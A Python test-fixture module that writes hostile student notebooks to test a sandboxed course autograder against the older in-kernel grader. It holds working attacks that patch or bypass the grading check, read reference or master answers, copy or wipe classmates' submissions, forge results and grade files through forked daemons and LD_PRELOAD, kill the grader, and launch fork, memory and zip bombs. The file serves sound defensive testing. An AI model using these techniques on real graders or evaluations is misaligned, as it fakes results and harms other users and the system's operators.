"""Canned hostile submissions, one per attack of issue 15, made from the student stubs at test time.

``ATTACKS`` maps a name to (exercise set, code cells added after the stub's cells, cell tags). Each cell is
written to work against the in-kernel grader this replaced (commit d31d8dc), so that the attack's score
there can be compared with its score in the sandbox (the table in the closing note of the issue).
``make(folder)`` writes every attack, an honest victim and an honest solution graded last.
"""
import json
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
EX01 = ("jordan_step", "bidirectional", "rnn_shapes", "rnn_parameter_count")

FIND_RUN = '''
import os, re
def _cmdlines():
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                out.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0"))
            except OSError:
                pass
    return out
def _run_one():  # the old grader's child: grade.py --run-one <zip> <submission> <output dir> <timeout>
    for argv in _cmdlines():
        if "--run-one" in argv:
            i = argv.index("--run-one")
            return argv[i + 1], argv[i + 2], argv[i + 3]
    return None
def _submissions_dir():
    found = _run_one()
    if found:
        return os.path.dirname(found[1])
    for argv in _cmdlines():
        for a in argv:
            if a.endswith(".ipynb") and os.path.exists(a):
                return os.path.dirname(os.path.abspath(a))
    return None
'''

EXEC_SOLUTIONS = '''
import json
def _exec_solutions(path, names):
    nb = json.load(open(path))
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if cell["cell_type"] == "code" else ""
        if any(f"def {n}(" in src for n in names):
            exec(src, globals())
'''


WRONG = '''
import numpy as np
def jordan_step(x_t, y_prev, params):
    return x_t, y_prev
def bidirectional(x, params_fwd, params_bwd):
    return x
def rnn_shapes(N, T, D, H, num_layers, bidirectional):
    return (N, T, H), (1, N, H)
def rnn_parameter_count(D, H, num_layers, bidirectional):
    return 0
'''  # wrong answers, so that a forged verdict is what would earn the points


def _all(body):
    return "\n".join(f"{name} = {body}" for name in EX01)


ATTACKS = {
    "frame_walk_reference": ("ex01_rnn", ['''
import sys
def _from_caller(*args, **kwargs):
    frame = sys._getframe(1)
    while frame is not None:
        loc = frame.f_locals
        if "question" in loc and "seed" in loc:
            from course_rnn import grading
            q, s = loc["question"], loc["seed"]
            return grading.reference(q, grading.case_inputs(q, s), s)
        frame = frame.f_back
    raise RuntimeError("no grader frame")
''' + _all("_from_caller")]),
    "package_implementation": ("ex01_rnn", ['''
import numpy as np
from course_rnn.numpy import deep, jordan
def jordan_step(x_t, y_prev, params):
    return jordan.step_forward(x_t, y_prev, params)
def bidirectional(x, params_fwd, params_bwd):
    N, H = x.shape[0], params_fwd["W_hh"].shape[0]
    return deep.bidirectional_forward(x, np.zeros((N, H)), np.zeros((N, H)), params_fwd, params_bwd)
''']),
    "closure_answer": ("ex02_bptt", ['''
def locate_bug(backward, x, h0, params):
    seen, todo = set(), [backward]
    while todo:
        f = todo.pop()
        if id(f) in seen:
            continue
        seen.add(id(f))
        for cell in getattr(f, "__closure__", None) or ():
            v = cell.cell_contents
            if isinstance(v, tuple) and len(v) == 3 and v[0] == "skip":
                return v[1], v[2]
            if callable(v):
                todo.append(v)
    raise RuntimeError("no bug in the closure")
''']),
    "master_solutions": ("ex01_rnn", [EXEC_SOLUTIONS + '''
import course_rnn, os
_here = os.path.dirname(course_rnn.__file__)
for _up in range(6):
    _master = os.path.join(_here, *[".."] * _up, "exercises", "masters", "ex01_rnn.ipynb")
    if os.path.exists(_master):
        _exec_solutions(_master, ["jordan_step", "bidirectional", "rnn_shapes", "rnn_parameter_count"])
        break
''']),
    "copy_classmate": ("ex01_rnn", [FIND_RUN + EXEC_SOLUTIONS + '''
_dir = _submissions_dir()
for _name in sorted(os.listdir(_dir)) if _dir else []:
    if _name.startswith("victim"):
        _exec_solutions(os.path.join(_dir, _name), ["jordan_step", "bidirectional", "rnn_shapes", "rnn_parameter_count"])
''']),
    "replace_check_directly": ("ex01_rnn", ['''
from course_rnn import grading
grading.check_against_reference = lambda *args, **kwargs: None
''']),
    "replace_check_sys_modules": ("ex01_rnn", ['''
import sys, types
fake = types.ModuleType("course_rnn.grading")
fake.check_against_reference = lambda *args, **kwargs: None
sys.modules["course_rnn.grading"] = fake
import course_rnn
course_rnn.grading = fake
''']),
    "replace_check_import_hook": ("ex01_rnn", ['''
import builtins, types
_real_import = builtins.__import__
_fake = types.SimpleNamespace(check_against_reference=lambda *a, **k: None)
def _hook(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if name == "course_rnn" and fromlist and "grading" in fromlist:
        return types.SimpleNamespace(grading=_fake)
    return module
builtins.__import__ = _hook
''']),
    "patch_subprocess_run": ("ex01_rnn", [WRONG + '''
import subprocess
subprocess.run = lambda *a, **k: subprocess.CompletedProcess(a, 0, stdout=b"ok", stderr=b"")
''']),
    "fake_sys_executable": ("ex01_rnn", [WRONG + '''
import os, sys, tempfile
_script = os.path.join(tempfile.mkdtemp(), "python")
with open(_script, "w") as f:
    f.write("#!/bin/sh\\ncat > /dev/null\\necho ok\\n")
os.chmod(_script, 0o755)
sys.executable = _script
''']),
    "ld_preload": ("ex01_rnn", [WRONG + '''
import os, subprocess, tempfile
_dir = tempfile.mkdtemp()
open(os.path.join(_dir, "ok.c"), "w").write(r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void fake(int argc, char **argv) {
    for (int i = 0; i < argc; i++) if (argv[i] && strstr(argv[i], "course_rnn.grading")) { printf("ok\\n"); fflush(stdout); _exit(0); }
}
""")
subprocess.run(["gcc", "-shared", "-fPIC", "-o", os.path.join(_dir, "ok.so"), os.path.join(_dir, "ok.c")])
os.environ["LD_PRELOAD"] = os.path.join(_dir, "ok.so")
''']),
    "rewrite_results_atexit_daemon": ("ex01_rnn", [WRONG + FIND_RUN + '''
import atexit, json, time, glob
def _forge():
    found = _run_one()
    if not found:
        return
    out = found[2]
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(600):
        path = os.path.join(out, "results.json")
        if os.path.exists(path):
            try:
                r = json.load(open(path))
                for t in r["tests"]:
                    if "max_score" in t:
                        t["score"] = t["max_score"]
                json.dump(r, open(path, "w"))
            except Exception:
                pass
        time.sleep(0.05)
    os._exit(0)
atexit.register(_forge)
_forge()
''']),
    "checker_update_score": ("ex01_rnn", [WRONG + '''
from otter.execute.checker import Checker
_original = Checker.check.__func__
def _check(cls, *args, **kwargs):
    test = _original(cls, *args, **kwargs)
    try:
        test.update_score(1000)
    except Exception:
        pass
    return test
Checker.check = classmethod(_check)
''']),
    "forge_columns": ("ex01_rnn", [WRONG + '''
from otter.execute.checker import Checker
_original = Checker.check.__func__
def _check(cls, *args, **kwargs):
    test = _original(cls, *args, **kwargs)
    try:
        test.name = "q1"
        test.update_score(2)
    except Exception:
        pass
    return test
Checker.check = classmethod(_check)
import os, json
os.makedirs("answers", exist_ok=True)
json.dump({"failed": 0, "interrupted": 0, "notes": "FORGED", "flags": ""}, open("answers/cells.json", "w"))
''']),
    "timeouts_txt_directory": ("ex01_rnn", [FIND_RUN + '''
_found = _run_one()
if _found:
    os.makedirs(os.path.join(_found[2], "timeouts.txt"), exist_ok=True)
''']),
    "kill_the_grader": ("ex01_rnn", [FIND_RUN + '''
import signal
_dir = (_submissions_dir() or "/nonexistent").encode()
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
            if b"grade.py" in cmd and _dir in cmd:  # this class's grader, and nothing else on the machine
                os.kill(int(_pid), signal.SIGKILL)
        except Exception:
            pass
''']),
    "ignore_sigint_loop": ("ex01_rnn", ['''
import signal, time
for _s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(_s, signal.SIG_IGN)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
''']),
    "daemon_rewrites_grades": ("ex01_rnn", [FIND_RUN + '''
import time, sys
_dir = _submissions_dir() or "/nonexistent"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(8)  # outlive the run, with the grader's pipes still open
        try:
            lines = open(os.path.join(_dir, "grades.csv")).read().splitlines()
            lines = [l if not l.startswith("victim") else "victim.ipynb,0,9,0,0,0,0,," for l in lines]
            open(os.path.join(_dir, "grades.csv"), "w").write("\\n".join(lines) + "\\n")
        except Exception:
            pass
        os._exit(0)
    os._exit(0)
''']),
    "overwrite_classmate": ("ex01_rnn", [FIND_RUN + '''
_dir = _submissions_dir()
for _name in sorted(os.listdir(_dir)) if _dir else []:
    if _name.startswith(("victim", "zz_honest")):
        open(os.path.join(_dir, _name), "w").write("{}")
''']),
    "edit_package_source": ("ex01_rnn", ['''
import course_rnn, os
_path = os.path.join(os.path.dirname(course_rnn.__file__), "grading.py")
_text = open(_path).read() if os.path.exists(_path) else ""
open(_path, "w").write(_text.replace("def check_against_reference(", "def _replaced(") +
    "\\ndef check_against_reference(*a, **k):\\n    return None\\n")
_init = os.path.join(os.path.dirname(course_rnn.__file__), "numpy", "rnn.py")
open(_init, "a").write("\\n# edited by a submission\\n")
''']),
    "plant_pyc": ("ex01_rnn", ['''
import course_rnn, os, py_compile, importlib.util
_src = os.path.join(os.path.dirname(course_rnn.__file__), "grading.py")
if not os.path.exists(_src):
    _src = os.path.join(os.path.dirname(course_rnn.__file__), "exercises.py")
_fake = _src + ".fake.py"
open(_fake, "w").write(open(_src).read() + "\\ndef check_against_reference(*a, **k):\\n    return None\\n")
_st = os.stat(_src)
os.utime(_fake, (_st.st_atime, _st.st_mtime))
py_compile.compile(_fake, cfile=importlib.util.cache_from_source(_src), dfile=_src)
os.remove(_fake)
''']),
    "rewrite_autograder_zip": ("ex01_rnn", ['''
import course_rnn, os, glob
_root = os.path.dirname(course_rnn.__file__)
for _up in range(4):
    for _zip in glob.glob(os.path.join(_root, *[".."] * _up, "_build", "exercises", "*", "autograder.zip")):
        try:
            open(_zip, "wb").write(b"not a zip")
        except OSError:
            pass
''']),
    "flood_output": ("ex01_rnn", ['''
import sys
_chunk = "x" * (1 << 20)
for _ in range(300):
    sys.stdout.write(_chunk)
sys.stdout.flush()
''']),
    "memory_bomb": ("ex01_rnn", ['''
_hog = []
for _ in range(64):
    _hog.append(bytearray(1 << 30))
''']),
    "fork_bomb": ("ex01_rnn", ['''
import os, time
_children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        _children += 1
except OSError:
    pass
''']),
    "hostile_answer_files": ("ex01_rnn", ['''
import sys, os, io, zipfile
import numpy as np
_main = sys.modules["__main__"]  # the runner shares this process: replace how it writes answers
_big = os.path.join(os.path.dirname(os.path.dirname(np.__file__)), "torch", "lib", "libtorch_cpu.so")  # 400 MB
_buf = io.BytesIO()
with zipfile.ZipFile(_buf, "w", compression=zipfile.ZIP_BZIP2) as _z:  # 256 MB of zeros in a few KB
    with _z.open("arr_0.npy", "w", force_zip64=True) as _f:
        np.lib.format.write_array_header_2_0(_f, {"descr": "<f8", "fortran_order": False, "shape": (32 << 20,)})
        for _ in range(16):
            _f.write(bytes(16 << 20))
_BOMB, _seen = _buf.getvalue(), []
def _answer(call, namespace, plan):
    stem, k = f"/submission/answers/{call['id']}", len(_seen)
    _seen.append(call["id"])
    if k == 0:
        os.symlink(_big, stem + ".err")
        os.remove("/submission/answers/cells.json")
        os.symlink(_big, "/submission/answers/cells.json")
    elif k == 1:
        os.symlink(_big, stem + ".npz")
    elif k in (2, 3):
        open(stem + ".npz", "wb").write(_BOMB)
    elif k == 4:
        os.mkfifo(stem + ".npz")
    elif k == 5:
        os.mkdir(stem + ".npz")
    else:
        np.savez(stem + ".npz", np.zeros(3))
_main.answer = _answer
''']),
    "oracle_flood": ("ex02_bptt", ['''
import io, json, os, struct
import numpy as np
_fds = json.load(open("/submission/plan.json"))["oracle_fds"]  # the pipe to the parent's locate_bug oracle
_N, _H, _T = 200, 2000, 20  # 350 MB of zeros in a few tens of KB
_arrays = {"name": np.array("buggy_backward"), "seed": np.array(1), "T": np.array(_T), "dhs": np.zeros((_N, _T, _H)),
           "activation": np.array("tanh"), "param.W_xh": np.zeros((_H, _H)), "param.W_hh": np.zeros((_H, _H)),
           "param.b_h": np.zeros(_H)}
for _t in range(_T):
    _arrays.update({f"{_k}.{_t}": np.zeros((_N, _H)) for _k in ("x_t", "h_prev", "a", "h")})
import zipfile
_buf = io.BytesIO()  # bzip2: the message stays under one pipe buffer, so the old oracle read it whole
with zipfile.ZipFile(_buf, "w", compression=zipfile.ZIP_BZIP2) as _z:
    for _k, _v in _arrays.items():
        with _z.open(_k + ".npy", "w", force_zip64=True) as _f:
            np.lib.format.write_array(_f, _v)
del _arrays
os.write(_fds[0], struct.pack("<Q", _buf.tell()) + _buf.getvalue())
os._exit(0)  # leave at once: the old parent kept computing after the sandbox was gone
''']),
    # Exercise set 8's, written against the sandboxed grader: its withheld code, an answer that games the
    # frequency checks, and malformed answers that must get a reason and a grade, never stop the judges.
    "ex08_package_implementation": ("ex08_language_models", ['''
import numpy as np, torch
from course_rnn import perplexity as _ppl
from course_rnn.numpy import rnn, truncated
from course_rnn.torch import RNNCell, truncated_backward
from course_rnn.torch.decoding import next_distribution
from course_rnn.torch.seq2seq import AdditiveAttention
def perplexity(logits, targets):
    return float(np.exp(_ppl.cross_entropy(logits, targets)))
def sampling_distribution(logits, temperature, top_k=None):
    return next_distribution(torch.as_tensor(logits), temperature, top_k).numpy()
def sample_tokens(logits, temperature, top_k, n, rng):
    p = next_distribution(torch.as_tensor(logits), temperature, top_k).numpy()
    return np.stack([rng.choice(len(row), size=n, p=row) for row in p])
def carried_gradients(x, h0, params, dhs, T):
    try:
        cell = RNNCell(*params["W_xh"].shape).double()
        with torch.no_grad():
            for k in params:
                getattr(cell, k).copy_(torch.as_tensor(params[k]))
        g = torch.as_tensor(dhs)
        states, _ = truncated_backward(cell, torch.as_tensor(x), torch.as_tensor(h0), lambda t, h: (h * g[:, t]).sum(), T, T)
        return {k: getattr(cell, k).grad.numpy() for k in params}, states[-1].numpy()
    except NotImplementedError:
        hs, cache = rnn.forward(x, h0, params)
        windows = truncated.backward(dhs, cache, T, T)
        return {k: sum(w[k] for w in windows) for k in params}, hs[:, -1]
def additive_attention(s_prev, hs, mask, params):
    module = AdditiveAttention(s_prev.shape[1], hs.shape[2], params["v_a"].shape[0]).double()
    with torch.no_grad():
        module.W_a.weight.copy_(torch.as_tensor(params["W_a"]).T)
        module.U_a.weight.copy_(torch.as_tensor(params["U_a"]).T)
        module.v_a.weight.copy_(torch.as_tensor(params["v_a"])[None])
        context, weights = module(torch.as_tensor(s_prev), torch.as_tensor(hs), torch.as_tensor(mask))
    return context.numpy(), weights.numpy()
''']),
    "exact_counts_not_draws": ("ex08_language_models", ['''
import numpy as np
def _softmax(logits, temperature, top_k):
    scaled = logits / temperature
    if top_k is not None:
        scaled = np.where(scaled >= np.sort(scaled, axis=1)[:, -top_k][:, None], scaled, -np.inf)
    e = np.exp(scaled - scaled.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
def sample_tokens(logits, temperature, top_k, n, rng):  # each token about n p times, in order: perfect frequencies
    rows = []
    for p in _softmax(logits, temperature, top_k):
        counts = np.floor(n * p).astype(int)
        counts[np.argmax(p)] += n - counts.sum()
        rows.append(np.repeat(np.arange(len(p)), counts))
    return np.stack(rows)
''']),
    "judge_breakers": ("ex08_language_models", ['''
import numpy as np
def perplexity(logits, targets):
    return "low"
def sampling_distribution(logits, temperature, top_k=None):
    return np.ones(logits.shape, dtype=bool)  # booleans, rows summing to V
def sample_tokens(logits, temperature, top_k, n, rng):
    ids = np.full((logits.shape[0], n), np.iinfo(np.uint64).max, dtype=np.uint64)  # a bincount of 2**64 entries
    if top_k is not None:
        ids = -np.ones((logits.shape[0], n), dtype=np.int8)
    return ids
def carried_gradients(x, h0, params, dhs, T):
    return {"W_xh": {"nested": 1}, "W_hh": [[1, "a"]], "b_h": None}, h0
def greedy_step(ids, h_prev, params):
    return np.full(ids.shape, np.inf), np.full(h_prev.shape, np.nan)
def additive_attention(s_prev, hs, mask, params):
    weights = np.where(mask, 1.0 / mask.sum(axis=1, keepdims=True), np.nan)
    return np.zeros((hs.shape[0], hs.shape[2])), weights
''']),
    "setup_tag_hides_code": ("ex01_rnn", ['''
import subprocess
grader.check = lambda *a, **k: None
'''], ["setup"]),
    "exec_base64": ("ex01_rnn", ['''
import base64
exec(base64.b64decode("ZnJvbSBjb3Vyc2Vfcm5uIGltcG9ydCBncmFkaW5nCmdyYWRpbmcuY2hlY2tfYWdhaW5zdF9yZWZlcmVuY2UgPSBsYW1iZGEgKmEsICoqazogTm9uZQo=").decode())
''']),
}


def _stub(exercise):
    return nbformat.read(ROOT / "exercises" / "student" / f"{exercise}.ipynb", as_version=4)


NAMES = {"ex01_rnn": EX01, "ex02_bptt": ("step_backward", "bptt", "truncated_grads", "locate_bug"),
         "ex08_language_models": ("perplexity", "sampling_distribution", "sample_tokens", "carried_gradients",
                                  "greedy_step", "additive_attention")}


def _defines(cell, name):
    return cell.cell_type == "code" and cell.source.lstrip().startswith(f"def {name}(")


def hostile(name):
    """The notebook of attack ``name``: the stub, with the attack's cells before the first public check.

    Otter graded question by question at the check cells, so an attack must run before the first; the
    stub's cells defining a function the attack names are removed (a learner replaces their answer cells).
    """
    exercise, cells, *tags = ATTACKS[name]
    nb = _stub(exercise)
    named = [n for n in NAMES[exercise] if any(n in source for source in cells)]
    nb.cells = [c for c in nb.cells if not any(_defines(c, n) for n in named)]
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source.startswith("grader.check"))
    for k, source in enumerate(cells):
        cell = nbformat.v4.new_code_cell(source)
        cell.metadata["tags"] = list(tags[0]) if tags else []
        nb.cells.insert(at + k, cell)
    return nb


def honest(exercise):
    """An honest full solution: the stub with each answer cell replaced by the master's solution cell."""
    nb, master = _stub(exercise), nbformat.read(ROOT / "exercises" / "masters" / f"{exercise}.ipynb", as_version=4)
    for cell in nb.cells:
        for name in NAMES.get(exercise, ()):
            if _defines(cell, name):
                (solution,) = [c for c in master.cells if _defines(c, name)]
                cell.source = solution.source
    return nb


def make(folder, exercise="ex01_rnn", names=None):
    """Write the attacks on ``exercise``, the stub, a victim and zz_honest (graded last) into ``folder``."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for name in names or [n for n, (ex, *_) in ATTACKS.items() if ex == exercise]:
        nbformat.write(hostile(name), folder / f"{name}.ipynb")
    nbformat.write(_stub(exercise), folder / "stub.ipynb")
    nbformat.write(honest(exercise), folder / "victim.ipynb")
    nbformat.write(honest(exercise), folder / "zz_honest.ipynb")
    return folder
